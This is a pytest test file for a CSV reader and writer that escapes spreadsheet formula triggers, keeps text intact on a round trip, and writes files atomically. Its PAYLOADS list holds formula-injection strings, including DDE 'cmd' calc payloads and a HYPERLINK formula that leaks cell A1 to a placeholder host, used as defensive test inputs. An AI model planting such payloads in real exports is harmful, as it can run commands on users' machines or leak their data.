"""CSV: nothing a spreadsheet would run, the same text back, and no half-written file."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reid_core.data._csv import _TRIGGERS, from_cell, is_utf8, read_csv, to_cell, write_csv
from reid_core.errors import CheckpointError, DataError

PAYLOADS = [
    "=1+1.jpg",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1+1,"x"',
    "＝1+1",
    "'=1+1",
]
TRIGGERS = set("=+-@\t\r\n\0＝＋－＠")


@pytest.mark.parametrize("name", PAYLOADS)
def test_payloads(name: str, tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", ("path", "value"), [(name, -0.5)])
    with open(tmp_path / "a.csv", encoding="utf-8", newline="") as file:
        (header, (cell, number)) = list(csv.reader(file))  # as a spreadsheet parses it
    assert header == ["path", "value"]
    assert cell[0] not in TRIGGERS
    assert float(number) == -0.5
    assert [row for _, row in read_csv(tmp_path / "a.csv", ("path",), ("value",))] == [{"path": name, "value": "-0.5"}]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-1, "-1"),
        (np.int64(-3), "-3"),
        (-0.5, "-0.5"),
        (None, ""),
        ("-1", "'-1"),
        ("", ""),
        ("a=b", "a=b"),
        ("'", "''"),
    ],
)
def test_cells_by_hand(value: object, cell: str) -> None:
    assert to_cell(value) == cell
    if isinstance(value, str):
        assert from_cell(cell) == value


@pytest.mark.parametrize("text", [*(first + "SUM(A1)" for first in _TRIGGERS), "'=x", "''", "-1/-1_c1s1.jpg"])
def test_cells_never_start_a_formula_and_come_back(text: str) -> None:
    assert not to_cell(text).startswith(_TRIGGERS)
    assert from_cell(to_cell(text)) == text


@given(st.text(alphabet=st.sampled_from("'=-a\t@") | st.characters(), max_size=8))
def test_marks_among_any_text_come_back(text: str) -> None:
    assert from_cell(to_cell(text)) == text


def test_foreign_cells_are_left_alone() -> None:
    assert [from_cell(c) for c in ("'tis.jpg", "a.jpg", "")] == ["'tis.jpg", "a.jpg", ""]


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1))
@settings(max_examples=300, deadline=None)
def test_any_text_comes_back(text: str) -> None:
    assert from_cell(to_cell(text)) == text
    assert to_cell(text)[0] not in TRIGGERS


@given(st.lists(st.tuples(st.text("=+-@'\t\r\n,\" aé;\\", max_size=6), st.text("=+-@'\t\r\n,\" aé", max_size=3))))
@settings(max_examples=100, deadline=None)
def test_any_table_comes_back(tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str]]) -> None:
    path = tmp_path_factory.getbasetemp() / "table.csv"
    write_csv(path, ("a", "b"), rows)
    assert [(row["a"], row["b"]) for _, row in read_csv(path, ("a", "b"))] == rows


def test_file_names_that_are_not_utf8(tmp_path: Path) -> None:
    name = os.fsdecode(b"caf\xe9.jpg")
    write_csv(tmp_path / "a.csv", ("path",), [(name,)])
    assert (tmp_path / "a.csv").read_bytes() == b"path\ncaf\xe9.jpg\n"
    assert [row["path"] for _, row in read_csv(tmp_path / "a.csv", ("path",))] == [name]
    assert not is_utf8(name) and is_utf8("café 行人")


def test_a_failure_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "a.csv"
    write_csv(path, ("a",), [("old",)])

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    for step in ("fsync", "replace"):
        with monkeypatch.context() as patch:
            patch.setattr(os, step, full)
            with pytest.raises(CheckpointError, match="No space"):
                write_csv(path, ("a",), [("new",)])
        assert path.read_text() == "a\nold\n"
        assert os.listdir(tmp_path) == ["a.csv"]


def test_written_to_disk_before_renamed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    steps: list[str] = []
    real = {name: getattr(os, name) for name in ("fsync", "replace")}
    for name in real:
        monkeypatch.setattr(os, name, lambda *a, name=name: (steps.append(name), real[name](*a))[1])
    write_csv(tmp_path / "a.csv", ("a",), [])
    assert steps == ["fsync", "replace", "fsync"]


def test_marks_line_ends_case_and_order_do_not_matter(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes("\ufeffLabel,extra,Path\r\n\r\n1,x,été.jpg\r\n2,,b.jpg".encode())
    assert list(read_csv(path, ("path", "label"), ("camid",))) == [
        (3, {"path": "été.jpg", "label": "1", "camid": ""}),
        (4, {"path": "b.jpg", "label": "2", "camid": ""}),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "is empty"),
        (b"paht,label\na,1\n", "no column 'path'.*Did you mean 'paht'"),
        (b"path;label\na;1\n", "semicolons"),
        (b"path\tlabel\na\t1\n", "tabs"),
        (b"path,label,path\na,1,b\n", "'path' is there 2 times"),
        (b"path,label\na,1\nb\n", "line 3: 2 cells were expected.*got 1"),
        (b"path,label\na,b.jpg,1\n", "line 2: 2 cells.*got 3"),
        (b'path,label\n"a,1\nb,2\n', "near line 3.*quotes"),
        ("path,label\na,1\n".encode("utf-16"), "UTF-16"),
        ("path,label\na,1\n".encode("utf-16-be"), "UTF-16"),
        (b"path,label\n" + b"a" * 200_000 + b",1\n", "near line 2.*field larger"),
    ],
)
def test_bad_files(data: bytes, message: str, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(data)
    with pytest.raises(DataError, match=message) as error:
        list(read_csv(tmp_path / "a.csv", ("path", "label")))
    assert str(tmp_path / "a.csv") in str(error.value)


def test_missing_folder_and_huge(tmp_path: Path) -> None:
    for path in (tmp_path, tmp_path / "none.csv", tmp_path / "none" / "a.csv"):
        with pytest.raises(DataError, match="cannot be read"):
            list(read_csv(path, ("path",)))
    huge = tmp_path / "huge.csv"
    with open(huge, "wb") as file:
        file.write(b"path\n")
        file.truncate(2**30 + 1)  # sparse: takes no room
    with pytest.raises(DataError, match="bytes"):
        list(read_csv(huge, ("path",)))
